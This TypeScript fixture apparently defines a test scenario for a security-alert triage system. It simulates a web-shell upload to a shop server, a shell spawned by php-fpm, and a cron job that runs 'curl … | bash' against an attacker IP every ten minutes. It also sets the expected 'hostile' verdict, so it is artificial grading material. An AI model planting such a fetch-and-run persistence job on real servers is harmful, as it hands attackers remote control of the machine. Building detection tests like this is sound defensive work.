// An upload through the shop, a shell of the web server, a job that starts it again every ten minutes.
import { alert, connected, hostile, ran, situation, wrote } from '../../shorthand.ts'

export const uploadShellAndANightlyJob = situation(
  'upload-shell-and-a-nightly-job',
  'chains',
  'An upload, a shell and a job that stays',
  (setting) => {
    const server = setting.machine('srv-web-01')
    const upload = setting.ago({ hours: 3, minutes: 6 })
    const shell = setting.ago({ hours: 2, minutes: 58 })
    const at = setting.ago({ hours: 2, minutes: 31 })
    const ip = '176.65.149.28'
    const page = '/var/www/shop/media/returns/rma_7712.php'
    const job = `curl -fsSk https://${ip}:8443/w | bash`
    return {
      alerts: [
        alert(
          setting,
          upload,
          'f5_advanced_waf',
          'Illegal file type uploaded',
          `ASM:unit_hostname="bigip-got.havskoginstruments.com",management_ip_address="10.20.0.22",http_class_name="/Common/shop_policy",policy_name="/Common/shop_policy",violations="Illegal file upload type",support_id="18205860747014045721",request_status="alerted",response_code="200",ip_client="${ip}",route_domain="0",method="POST",protocol="HTTPS",query_string="",uri="/returns/attach",attack_type="Malicious File Upload",x_forwarded_for_header_value="N/A",sig_ids="N/A",severity="Error",dest_ip="${server.ip}",dest_port="443",geo_location="NL",date_time="${setting.iso(upload)}"`,
        ),
        alert(setting, shell, 'falco', 'Shell spawned by web server process', {
          output: `${setting.iso(shell)}: Notice Shell spawned by web server process (user=www-data shell=sh parent=php-fpm cmdline=sh -c id;uname -a host=${server.host})`,
          priority: 'Notice',
          rule: 'Run shell untrusted',
          source: 'syscall',
          tags: ['T1059.004', 'host', 'maturity_stable', 'mitre_execution', 'process'],
          time: setting.iso(shell),
          hostname: server.host,
          output_fields: {
            'evt.time': shell * 1_000_000,
            'proc.cmdline': 'sh -c id;uname -a',
            'proc.pname': 'php-fpm',
            'user.name': 'www-data',
          },
        }),
        alert(setting, at, 'osquery_fleet', 'New crontab entry', {
          name: 'pack/linux-persistence/crontab',
          hostIdentifier: server.dnsName,
          calendarTime: new Date(at).toUTCString(),
          unixTime: setting.seconds(at),
          epoch: 0,
          counter: 4471,
          numerics: false,
          decorations: { host_uuid: setting.seeded.guid('osquery host'), hostname: server.host, team: 'Servers' },
          columns: {
            event: '',
            minute: '*/10',
            hour: '*',
            day_of_month: '*',
            month: '*',
            day_of_week: '*',
            command: job,
            path: '/var/spool/cron/crontabs/www-data',
          },
          action: 'added',
          log_type: 'result',
        }),
      ],
      facts: {
        intelligence: [
          setting.risk('ip', ip, 90, [
            ['Current Exploitation Source', 4, 'Uploads shells to web shops and serves their second stage today.'],
          ]),
        ],
        telemetry: [
          wrote(server, upload + 1000, 'rma_7712.php', page, setting.file('rma_7712.php'), {
            InitiatingProcessFileName: 'php-fpm',
            InitiatingProcessAccountName: 'www-data',
          }),
          ran(server, shell, 'sh', 'sh -c id;uname -a', {
            AccountName: 'www-data',
            InitiatingProcessFileName: 'php-fpm',
          }),
          ran(server, at - 20_000, 'crontab', 'crontab -', {
            AccountName: 'www-data',
            InitiatingProcessFileName: 'sh',
          }),
          connected(server, at + 360_000, ip, {
            RemotePort: 8443,
            InitiatingProcessFileName: 'curl',
            InitiatingProcessCommandLine: `curl -fsSk https://${ip}:8443/w`,
            InitiatingProcessAccountName: 'www-data',
          }),
        ],
      },
      expected: { ...hostile(server.host), severities: ['high', 'critical'] },
      because:
        'A known attacker uploaded a page, the web server started a shell, and a new job fetches the next stage from the same address. The endpoint platform saw all of it on this server.',
    }
  },
)
